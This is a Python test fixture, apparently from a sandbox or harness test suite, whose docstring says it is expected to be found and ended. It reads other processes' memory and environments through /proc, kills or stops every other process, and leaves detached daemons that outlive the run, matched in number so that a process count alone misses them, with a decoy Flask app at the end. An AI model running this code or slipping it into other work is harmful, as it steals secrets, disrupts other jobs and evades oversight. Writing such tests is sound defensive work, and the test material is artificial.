"""Ends, stops or reads the processes that wait for the next test, and leaves one of its own in their place; expected verdict: it is found and ended."""
import os
import signal
import socket
import time

_EV = []


def evidence(tag, yes, text=""):
    _EV.append("EVIDENCE:%s:%s %s" % (tag, "YES" if yes else "NO", str(text)[:200]))


def fee(amount):
    raise RuntimeError("; ".join(_EV))


NAME = b"\0atk_in_place"
with socket.socket(socket.AF_UNIX) as probe:
    evidence("survivor", probe.connect_ex(NAME) == 0)
evidence("nice", os.getpriority(os.PRIO_PROCESS, 0) > 15)

others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]
read = []
for pid in others:
    for file in ("mem", "environ", "maps", "fd/0", "fd/3"):
        try:
            with open("/proc/%d/%s" % (pid, file), "rb") as opened:
                opened.seek(0)
                opened.read(64)
            read.append((pid, file))
        except OSError:
            pass
evidence("read", read, read)

turn = int(time.time() * 1000) % 3
ended = 0
for place, pid in enumerate(others):
    try:
        os.kill(pid, (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM)[(turn + place) % 3])
        ended += 1
    except OSError:
        pass
# As many as were there before, so that a count alone finds nothing.
for _ in range(max(1, ended)):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        listener = socket.socket(socket.AF_UNIX)
        try:
            listener.bind(NAME)
            listener.listen()
        except OSError:
            pass
        for fd in (0, 1, 2, 3, 4):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(120)
        os._exit(0)

from flask import Flask


def create_app():
    return Flask(__name__)
